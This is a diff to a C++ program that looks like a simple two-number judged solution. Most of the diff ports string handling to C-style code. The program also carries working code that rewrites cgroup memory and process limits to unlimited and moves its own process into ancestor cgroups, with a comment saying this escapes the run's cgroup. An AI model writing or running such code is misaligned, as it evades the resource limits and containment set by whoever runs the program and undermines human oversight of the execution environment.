@@ -19,15 +19,12 @@
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
-#include <string>
-#include <vector>
 
-using namespace std;
-
-bool write_text(const string& path, const string& text) {
-    int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
+bool write_text(const char* path, const char* text) {
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
     if (fd < 0) return false;
-    bool ok = write(fd, text.c_str(), text.size()) == static_cast<ssize_t>(text.size());
+    size_t length = strlen(text);
+    bool ok = write(fd, text, length) == static_cast<ssize_t>(length);
     close(fd);
     return ok;
 }
@@ -37,7 +34,8 @@ int main() {
     if (scanf("%lld %lld", &a, &b) != 2) return 1;
 
     int moved = 0;
-    string pid = to_string(getpid()) + "\n";
+    char pid[32];
+    snprintf(pid, sizeof pid, "%d\n", getpid());
     if (FILE* file = fopen("/proc/self/cgroup", "r")) {
         char line[4096];
         while (fgets(line, sizeof line, file)) {
@@ -45,32 +43,42 @@ int main() {
             char* first = strchr(line, ':');
             char* second = first ? strchr(first + 1, ':') : nullptr;
             if (!second) continue;
-            string controllers(first + 1, second), path(second + 1);
-            while (!path.empty() && (path.back() == '\n' || path.back() == '/')) path.pop_back();
-            vector<string> mounts;
-            if (controllers.empty()) {
-                mounts = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
+            *second = '\0';
+            const char* controllers = first + 1;
+            char* path = second + 1;
+            size_t length = strlen(path);
+            while (length > 0 && (path[length - 1] == '\n' || path[length - 1] == '/')) --length;
+            path[length] = '\0';
+            char mounts[2][4200];
+            int mount_count = 0;
+            if (*controllers == '\0') {
+                strcpy(mounts[mount_count++], "/sys/fs/cgroup/unified");
+                strcpy(mounts[mount_count++], "/sys/fs/cgroup");
             } else {
-                if (controllers.rfind("name=", 0) == 0) controllers = controllers.substr(5);
-                mounts.push_back("/sys/fs/cgroup/" + controllers);
-                size_t comma = controllers.find(',');
-                if (comma != string::npos)
-                    mounts.push_back("/sys/fs/cgroup/" + controllers.substr(0, comma));
+                if (strncmp(controllers, "name=", 5) == 0) controllers += 5;
+                snprintf(mounts[mount_count++], sizeof mounts[0], "/sys/fs/cgroup/%s", controllers);
+                if (const char* comma = strchr(controllers, ','))
+                    snprintf(mounts[mount_count++], sizeof mounts[0], "/sys/fs/cgroup/%.*s",
+                             static_cast<int>(comma - controllers), controllers);
             }
-            for (const string& mount : mounts) {
-                for (const char* file_name :
-                     {"memory.limit_in_bytes", "memory.memsw.limit_in_bytes", "memory.max",
-                      "memory.high", "pids.max"}) {
+            static const char* const kFileNames[] = {"memory.limit_in_bytes",
+                                                     "memory.memsw.limit_in_bytes", "memory.max",
+                                                     "memory.high", "pids.max"};
+            char target[12800];
+            for (int m = 0; m < mount_count; ++m) {
+                for (const char* file_name : kFileNames) {
                     const char* value = strstr(file_name, "limit") ? "-1\n" : "max\n";
-                    write_text(mount + path + "/" + file_name, value);
+                    snprintf(target, sizeof target, "%s%s/%s", mounts[m], path, file_name);
+                    write_text(target, value);
                 }
                 // Nearest ancestor first: leaving the run's cgroup is enough to escape it.
-                string ancestor = path;
+                char ancestor[4096];
+                strcpy(ancestor, path);
                 bool done = false;
-                while (!done && !ancestor.empty()) {
-                    ancestor = ancestor.substr(0, ancestor.find_last_of('/'));
-                    if (write_text(mount + ancestor + "/cgroup.procs", pid) ||
-                        write_text(mount + ancestor + "/cgroup.procs", "0\n")) {
+                while (!done && ancestor[0] != '\0') {
+                    if (char* slash = strrchr(ancestor, '/')) *slash = '\0';
+                    snprintf(target, sizeof target, "%s%s/cgroup.procs", mounts[m], ancestor);
+                    if (write_text(target, pid) || write_text(target, "0\n")) {
                         ++moved;
                         done = true;
                     }
